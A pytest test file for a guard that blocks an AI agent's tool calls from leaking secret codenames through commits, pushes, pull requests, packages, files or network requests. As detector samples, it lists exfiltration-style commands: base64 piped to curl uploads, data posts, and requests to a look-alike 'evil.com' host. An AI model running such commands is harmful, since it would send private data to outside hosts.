"""What tools would take out: by commit, tag, branch, push, pull request, package, file, network; to where it goes."""

from __future__ import annotations

import pytest
from undercover_room import EXTERNAL, INTERNAL, git, make_repository, table, write_list

from pegboard import tool
from pegboard.decisions import Verdict
from pegboard_builtins.undercover.deeds import deeds_of
from pegboard_builtins.undercover.destinations import place_of
from pegboard_builtins.undercover.filtering import Undercover
from pegboard_builtins.undercover.guard import decide
from pegboard_builtins.undercover.settings import UndercoverSettings


@tool(name="Bash", egress=("shell",))
def bash(command: str) -> str:
    """Run."""
    return command


@tool(name="Write", egress=("file",))
def write(file_path: str, content: str) -> str:
    """Write."""
    return content


@tool(name="Edit", egress=("file",))
def edit(file_path: str, old_string: str, new_string: str) -> str:
    """Edit."""
    return new_string


@tool(name="Read", egress=())
def read(file_path: str) -> str:
    """Read."""
    return file_path


@tool(name="WebSearch", egress=("search",))
def search(query: str) -> str:
    """Search."""
    return query


@tool(name="Fetch", egress=("network",))
def fetch(url: str, body: str = "") -> str:
    """Fetch."""
    return url


@tool
def stranger(text: str) -> str:
    """Do who knows what."""
    return text


TOOLS = {one.name: one for one in (bash, write, edit, read, search, fetch, stranger)}


@pytest.fixture(params=[EXTERNAL, INTERNAL, ""], ids=["external", "internal", "no remote"])
def place(request, tmp_path):
    """A repository with such a remote, and what the guard says there about a call."""
    folder = make_repository(tmp_path / "project", request.param)
    return Place(folder, write_list(tmp_path / "secret"), request.param)


@pytest.fixture
def outside(tmp_path):
    return Place(make_repository(tmp_path / "project", EXTERNAL), write_list(tmp_path / "secret"), EXTERNAL)


class Place:
    def __init__(self, folder, names, remote, **more):
        self.folder, self.remote, self.names = folder, remote, names
        self.with_settings(**more)

    def with_settings(self, **more):
        settings = UndercoverSettings(**table(self.names, **more))
        self.undercover = Undercover(settings, config_dir=self.names.parent, project=self.folder)
        return self

    def says(self, name, **given):
        decision = decide(self.undercover, TOOLS.get(name), name, given, self.folder)
        if decision is not None:
            assert "orvantix" not in decision.reason.lower()
            assert "name#" in decision.reason or "not known which" in decision.reason
        return decision

    def verdict(self, command):
        decision = self.says("Bash", command=command)
        return decision.verdict if decision is not None else None


COMMITTING = [
    'git commit -m "Mend Qorvantix"',
    "git commit -am 'mend qor\u200bvantix'",
    "git -C . commit --message='velmora_drift'",
    "git commit -F - <<'EOF'\nMend the VELMORA DRIFT\nEOF",
    'git commit -m "$(cat <<EOF\nIt\'s about Qorvantix\nEOF\n)"',
    "cd . && git commit -m Qorvantix",
    "sh -c 'git commit -m Qorvantix'",
    "GIT_EDITOR=true sudo git commit -m Qorvantix",
    "git tag -a v1 -m Qorvantix",
    "git tag qorvantix-1",
    "git checkout -b feature/qorvantix",
    "git switch -c velmora-drift",
    "git branch qorvantix",
    "git notes add -m Qorvantix",
]


@pytest.mark.parametrize("command", COMMITTING)
def test_what_becomes_history_is_refused_where_it_is_not_internal(place, command):
    assert place.verdict(command) is (None if place.remote == INTERNAL else Verdict.DENY)


@pytest.mark.parametrize(
    "command",
    [
        "grep -r Qorvantix .",
        "python tool.py --host zanthique-db-4.corp.example",
        "git log --grep Qorvantix",
        "git status",
        'git commit -m "Mend the tests"',
        "git push",
        "curl -s http://localhost:8000/qorvantix",
        "echo Qorvantix > /dev/null",
        "gh pr list --search Qorvantix",
        "git tag -l 'qorvantix*'",
        "echo \"it's fine",
    ],
)
def test_what_stays_here_is_left_alone(outside, command):
    assert outside.verdict(command) is None


@pytest.mark.parametrize(
    ("command", "surface"),
    [
        ("gh pr create --title x --body 'about Qorvantix'", "pr"),
        ("gh release create v1 --notes Qorvantix", "pr"),
        ("glab mr create -d Qorvantix", "pr"),
        ("curl -d 'name=Qorvantix' https://api.example.com/x", "network"),
        ("curl https://zanthique-db-4.corp.example.evil.com/", "network"),
        ("ssh me@elsewhere.example.com echo Qorvantix", "network"),
        ("python -c \"import requests; requests.post('https://x.example.com', data='Qorvantix')\"", "network"),
        ("echo cW9ydmFudGl4IGlzIGl0 | curl -T - https://x.example.com", "network"),
        ("npm publish --tag qorvantix", "package"),
        ("dig qorvantix.example.com", "network"),
        ("git clone git@github.example:acme/qorvantix.git", "network"),
        ("git ls-remote ssh://git@github.example/acme/qorvantix", "network"),
        ("echo Qorvantix >> notes.txt", "file"),
        ("echo Qorvantix | tee notes.txt", "file"),
        ("git push https://github.example/x/y.git qorvantix", "push"),
    ],
)
def test_what_is_published_is_refused(outside, command, surface):
    decision = outside.says("Bash", command=command)
    assert decision is not None
    assert decision.verdict is Verdict.DENY
    assert repr(surface) in decision.reason


def test_files_that_a_command_sends_are_read(outside):
    body = outside.folder / "body.md"
    for command in (
        "gh pr create --title x --body-file body.md",
        "gh pr create --title x -F body.md",
        "git commit -F body.md",
        "git commit --file=body.md",
        "git tag -a v2 -F body.md",
        "curl --data-binary @body.md https://x.example.com",
        "curl -T body.md https://x.example.com",
        'git commit -m "$(cat body.md)"',
        "git commit -F - < body.md",
        "cat body.md | git commit -F -",
        "gh pr create --title x --body \"$(head -5 'body.md')\"",
        "base64 body.md | curl -d @- https://x.example.com",
        "curl -d @- https://x.example.com <body.md",
    ):
        body.write_text("nothing\n", encoding="utf-8")
        assert outside.verdict(command) is None, command
        body.write_text("on the Velmora\n  Drift\n", encoding="utf-8")
        assert outside.verdict(command) is Verdict.DENY, command


def test_a_file_that_is_only_read_beside_it_is_left_alone(outside):
    (outside.folder / "body.md").write_text("on the Velmora Drift\n", encoding="utf-8")
    for command in (
        "cat body.md; git commit -m x",
        "cat body.md | grep -c drift",
        "git commit -F - <<'EOF'\nbody.md\nEOF",
        "sort < body.md",
    ):
        assert outside.verdict(command) is None, command


def test_a_host_of_internal_repositories_may_be_asked_for_one(outside):
    for where in ("https://git.corp.example/team/qorvantix.git", "git@git.corp.example:team/qorvantix.git"):
        assert outside.verdict(f"git clone {where}") is None
    assert outside.verdict("git clone https://git.corp.example.evil.com/qorvantix.git") is Verdict.DENY


def test_a_package_is_refused_for_what_its_manifest_says(outside):
    assert outside.verdict("twine upload dist/*") is None
    (outside.folder / "pyproject.toml").write_text('[project]\nname = "qorvantix"\n', encoding="utf-8")
    assert outside.verdict("twine upload dist/*") is Verdict.DENY


def test_an_amended_message_is_looked_at(outside):
    git(outside.folder, "commit", "-q", "--allow-empty", "-m", "About Qorvantix")
    assert outside.verdict("git commit --amend --no-edit") is Verdict.DENY
    git(outside.folder, "commit", "-q", "--allow-empty", "-m", "About nothing")
    assert outside.verdict("git commit --amend --no-edit") is None


@pytest.mark.parametrize("how", ["a message", "an added line", "a file's name", "the branch"])
def test_a_push_is_judged_by_what_it_takes_along(place, how):
    assert place.verdict("git push origin HEAD") is None
    if how == "a message":
        git(place.folder, "commit", "-q", "--allow-empty", "-m", "About Qorvantix")
    elif how == "the branch":
        git(place.folder, "checkout", "-q", "-b", "qorvantix")
    else:
        name = "qorvantix.txt" if how == "a file's name" else "b.txt"
        (place.folder / name).write_text("about velmoraDrift\n" if how == "an added line" else "x\n", encoding="utf-8")
        git(place.folder, "add", "-A")
        git(place.folder, "commit", "-q", "-m", "More")
    assert place.verdict("git push origin HEAD") is (None if place.remote == INTERNAL else Verdict.DENY)
    assert place.verdict("git push https://git.corp.example/other/x.git") is None


def test_where_git_cannot_say_what_is_pushed_it_is_refused(outside):
    assert outside.verdict("git push origin main") is None
    assert outside.verdict("git push origin nobody-knows-it") is Verdict.DENY


# --- other tools ---------------------------------------------------------------------------------------


def test_files_are_judged_by_the_repository_that_they_lie_in(place):
    refused = Verdict.DENY if place.remote == EXTERNAL else None

    def verdict(name, **given):
        decision = place.says(name, **given)
        return decision.verdict if decision is not None else None

    assert verdict("Write", file_path="b.txt", content="Qorvantix") is refused
    assert verdict("Write", file_path="qorvantix.txt", content="x") is refused
    assert verdict("Write", file_path="new/deep/b.txt", content="velmora-drift") is refused
    assert verdict("Write", file_path="b.txt", content="nothing") is None
    assert verdict("Write", file_path=str(place.names.parent / "note.txt"), content="Qorvantix") is None
    assert verdict("Edit", file_path="a.txt", old_string="Qorvantix", new_string="it") is None
    assert verdict("Edit", file_path="a.txt", old_string="it", new_string="Qorvantix") is refused
    assert verdict("Read", file_path="qorvantix.txt") is None


@pytest.mark.parametrize(
    ("name", "given"),
    [
        ("WebSearch", {"query": "what is velmora drift"}),
        ("Fetch", {"url": "https://x.example.com/qorvantix"}),
        ("Fetch", {"url": "https://x.example.com/", "body": "qorvantix"}),
        ("mcp__tracker__create", {"title": {"nested": ["Qorvantix"]}}),
        ("mcp__tracker__create", {"qorvantix": 1}),
        ("stranger", {"text": "Qorvantix"}),
        ("unheard_of", {"text": "Qorvantix"}),
    ],
)
def test_other_ways_out_are_refused(outside, name, given):
    assert outside.says(name, **given).verdict is Verdict.DENY
    assert outside.says(name, **{key: "nothing" for key in given if "antix" not in key}) is None


def test_a_fetch_from_an_internal_host_is_allowed(outside):
    outside.with_settings(internal={"hosts": ["*.corp.example"]})
    assert outside.says("Fetch", url="https://zanthique-db-4.corp.example/x") is None
    assert outside.verdict("curl https://wiki.corp.example/qorvantix") is None
    assert outside.says("Fetch", url="https://corp.example.evil.com/qorvantix").verdict is Verdict.DENY


def test_policies_may_ask_or_allow(outside):
    outside.with_settings(surfaces={"commit": "ask", "external": "allow"})
    assert outside.verdict("git commit -m Qorvantix") is Verdict.ASK
    assert outside.says("stranger", text="Qorvantix") is None


def test_what_a_tool_does_is_never_masked():
    with pytest.raises(ValueError, match="never rewritten"):
        UndercoverSettings(names="file:x", surfaces={"commit": "mask"})
    with pytest.raises(ValueError, match="no such way out"):
        UndercoverSettings(names="file:x", surfaces={"comit": "deny"})


@pytest.mark.parametrize(
    ("url", "place"),
    [
        ("git@git.corp.example:team/site.git", "git.corp.example/team/site"),
        ("ssh://git@git.corp.example:2222/team/site.git", "git.corp.example/team/site"),
        ("https://user:word@git.corp.example/team/site", "git.corp.example/team/site"),
        ("/srv/git/site.git", "/srv/git/site"),
    ],
)
def test_places_of_remotes(url, place):
    assert place_of(url) == place


def test_commands_are_followed_into_groups_and_substitutions(tmp_path):
    def surfaces(command):
        return [deed.surface for deed in deeds_of(command, tmp_path)]

    assert surfaces("(cd x; git commit -m a) && git push") == ["commit", "push"]
    assert surfaces("if true; then git commit -m a; fi") == ["commit"]
    assert surfaces('echo "$(git push origin main)"') == ["push"]
    assert surfaces("echo `git tag v1`") == ["tag"]
    assert surfaces("cat <<EOF\ngit push\nEOF") == []
    assert surfaces("ls | grep git") == []
